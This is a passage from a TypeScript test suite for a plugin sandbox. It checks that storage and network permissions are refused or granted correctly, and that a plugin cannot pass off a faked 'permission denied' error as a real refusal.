      const ask = (): Promise<void> => host.call('storage.list', { prefix: 'none' }, signal).then((value) => { outcomes.push(value); }, (error: unknown) => { outcomes.push(error); });
      await ask();
      installed([]);
      await ask();
      installed(['storage:1000', 'network:late.example']);
      await ask();
      await host.call('fetch', get('https://late.example/'), signal);
      return null;
    };
    await tools.invoke(session, await tools.find(`${PLUGIN}/outer`), { callId: 'c1', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: session.context.signal });
    expect(outcomes).toEqual([[], refused('storage'), []]);
    expect(asked[0]?.policy.hosts).toEqual([]);
  });

  it('ends a tool that lets the refusal pass as refused, and a run of it too', async () => {
    installed([]);
    stage.act = async (host, signal) => {
      await host.call('storage.list', {}, signal).catch(() => { throw new AppError('sandbox/plugin-threw', 'It threw.', { details: { name: 'Error', code: 'permission/denied' } }); });
      return null;
    };
    const refusedRun = await tools.invoke(session, await tools.find(`${PLUGIN}/outer`), { callId: 'c2', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: session.context.signal });
    expect(refusedRun.error).toEqual({ code: 'permission/denied', message: 'Storage was not granted to this plugin.' });
    expect(calls.at(-1)).toMatchObject({ error: { code: 'permission/denied', permission: 'storage' } });
    // One that only says so, without having been refused, is a failure like any other.
    stage.act = () => Promise.reject(new AppError('sandbox/plugin-threw', 'I was refused!', { details: { name: 'Error', code: 'permission/denied' } }));
    const claims = await tools.invoke(session, await tools.find(`${PLUGIN}/outer`), { callId: 'c3', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: session.context.signal });
    expect(claims.error?.code).toBe('sandbox/plugin-threw');
  });
});
